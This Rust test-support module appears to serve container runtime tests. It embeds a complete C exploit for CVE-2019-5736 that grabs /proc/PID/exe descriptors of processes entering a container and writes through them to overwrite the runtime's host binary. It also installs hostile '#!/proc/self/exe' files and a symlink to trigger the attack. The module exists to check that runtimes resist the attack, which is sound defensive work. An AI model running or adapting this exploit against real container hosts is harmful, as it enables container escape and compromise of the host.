//! CVE-2019-5736 as an attacker tries it, for the runtimes' and the engine's tests: a small
//! static C program that, as a container's init, opens `/proc/PID/exe` of every process that
//! appears in the container and, once that process is gone, writes through what it holds;
//! and files that name `/proc/self/exe` as their `#!` interpreter in every spelling the
//! kernel accepts, or link to it. Exec'ing those into the container makes a runtime that
//! leaves its host binary as the process's exe run that binary inside the container.
//!
//! The attacker creates `/ready` when it starts, `/captured` on its first catch, and stops
//! catching when `/stop` appears; then it writes, and prints and writes `/result`:
//! `captured=N written=N refused=N`. It never counts the container's own busybox.

use std::path::Path;

/// The container's init: captures `/proc/PID/exe` of every process that appears, then writes.
pub const ATTACKER: &str = r#"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX 512
static int pids[MAX], fds[MAX], n;

static int held(int pid) {
    for (int i = 0; i < n; i++) if (pids[i] == pid) return 1;
    return 0;
}

int main(void) {
    int me = getpid();
    struct stat bb, st;
    if (stat("/bin/busybox", &bb) != 0) bb.st_ino = 0;
    close(open("/ready", O_WRONLY | O_CREAT, 0644));
    while (access("/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) && n < MAX) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == me || held(pid)) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_RDONLY | O_CLOEXEC);
            if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == bb.st_dev && st.st_ino == bb.st_ino) {
                close(fd);  /* the container's own busybox: not the runtime */
                fd = -1;
            }
            if (fd >= 0) {
                pids[n] = pid; fds[n] = fd; n++;
                close(open("/captured", O_WRONLY | O_CREAT, 0644));
            }
        }
        if (d) closedir(d);
    }
    int written = 0, refused = 0;
    for (int i = 0; i < n; i++) {
        for (int t = 0; t < 500 && kill(pids[i], 0) == 0; t++) usleep(10000);
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
        int w = open(p, O_WRONLY);
        if (w >= 0 && write(w, "PWNED", 5) == 5) written++; else refused++;
        if (w >= 0) close(w);
    }
    FILE *f = fopen("/result.tmp", "w");
    fprintf(f, "captured=%d written=%d refused=%d\n", n, written, refused);
    fclose(f);
    rename("/result.tmp", "/result");
    printf("captured=%d written=%d refused=%d\n", n, written, refused);
    return 0;
}
"#;

/// Name and content of each hostile `#!` file (all mode 0755).
const HOSTILE: &[(&str, &[u8])] = &[
    ("evil_nul", b"#!/proc/self/exe\0\n"),
    ("evil_space", b"#! /proc/self/exe\n"),
    ("evil_tab", b"#!\t/proc/self/exe\n"),
    ("evil_nonl", b"#!/proc/self/exe"),
    ("evil_arg", b"#!/proc/self/exe --version\n"),
];

/// The hostile files [`install`] puts in the root, by name (exec them as `/NAME`).
pub fn hostile_names() -> Vec<&'static str> {
    HOSTILE
        .iter()
        .map(|(n, _)| *n)
        .chain(["evil_long", "evil_link"])
        .collect()
}

/// Puts `/attacker`, the hostile files, and the C library `runtime` needs (an image with a
/// C library, as the real attack used, so that the runtime's binary starts inside) into
/// `rootfs`. Needs gcc with a static C library.
pub fn install(rootfs: &Path, runtime: &Path) {
    compile_attacker(rootfs);
    copy_libraries(runtime, rootfs);
    let mut long = b"#!/proc/self/exe".to_vec();
    long.extend(std::iter::repeat_n(b' ', 300));
    long.extend(b"x\n");
    let mut files: Vec<(String, Vec<u8>)> = HOSTILE
        .iter()
        .map(|(n, c)| (n.to_string(), c.to_vec()))
        .collect();
    files.push(("evil_long".into(), long));
    for (name, content) in files {
        let p = rootfs.join(name);
        std::fs::write(&p, content).unwrap();
        std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    std::os::unix::fs::symlink("/proc/self/exe", rootfs.join("evil_link")).unwrap();
}

/// (captured, written) from the attacker's result line.
pub fn outcome(result: &str) -> (u32, u32) {
    let field = |name: &str| {
        result
            .split_whitespace()
            .find_map(|f| f.strip_prefix(name))
            .and_then(|n| n.parse().ok())
            .unwrap_or(0)
    };
    (field("captured="), field("written="))
}

fn compile_attacker(rootfs: &Path) {
    crate::compile_static_c(ATTACKER, &rootfs.join("attacker"));
}

/// The libraries `bin` needs (as `ldd` lists them), copied to the same paths in `rootfs`.
fn copy_libraries(bin: &Path, rootfs: &Path) {
    let out = std::process::Command::new("ldd").arg(bin).output().unwrap();
    for word in String::from_utf8_lossy(&out.stdout).split_whitespace() {
        if word.starts_with('/') && Path::new(word).is_file() {
            let dest = rootfs.join(word.trim_start_matches('/'));
            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
            std::fs::copy(word, &dest).unwrap();
        }
    }
}
